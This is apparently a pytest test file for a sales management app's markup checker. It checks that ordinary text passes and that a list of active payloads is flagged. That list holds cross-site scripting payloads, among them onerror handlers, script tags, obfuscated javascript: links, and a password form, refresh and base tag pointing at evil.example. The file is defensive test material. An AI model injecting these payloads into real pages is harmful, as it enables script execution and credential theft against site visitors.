"""What is a text, and what would act on a page."""

import pytest

from sales_mgmt.texts.markup import is_active

TEXTS = (
	"Attn. Purchasing <po@x.example> & Stores",
	"Bolt 5<b & nut a>3",
	"Fish & Chips &amp; more",
	"a < b, c > d",
	"<3",
	"<<<>>>",
	"Poster <frame 50 x 70>",
	"Screws <set of 5>",
	"Cover <base> and <object>",
	"if x<on=1",
	'see <a href="https://example.com/a?b=1">the list</a>',
	"<b>heavy</b> & <i>light</i>",
	"javascript: the good parts",
	"onerror=1",
	"<!-- a note -->",
	"Größe < 5 µm",
	"",
)
ACTIVE = (
	"<img src=x onerror=alert(1)>",
	'"<img src=x onerror=alert(1)>"',
	'{"a": "<img src=x onerror=alert(1)>"}',
	"<IMG SRC=x OnErRoR =alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<img src=x\nonerror\n=alert(1)",
	"<x onpointerenter='alert(1)'>",
	"<svg><script>alert(1)</script></svg>",
	"<script>alert(1)</script>",
	"<script src=//evil.example></script",
	"<ScRiPt\n>",
	"</script >",
	"<iframe srcdoc='&lt;script&gt;'>",
	"<iframe>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href='java\tscript:alert(1)'>x</a>",
	"<a href='&#106;avascript&colon;alert(1)'>x</a>",
	"<form action=https://evil.example><input name=password>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<base href=//evil.example>",
	"<object data=data:text/html,x>",
	"<!-- markdown --><img src=x onerror=alert(1)>",
	"a <b & c <img src=x onerror=alert(1)>",
	"<style>*{display:none}</style>",
)


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_a_text(text):
	assert not is_active(text)


@pytest.mark.parametrize("text", ACTIVE)
def test_what_acts_is_active(text):
	assert is_active(text)
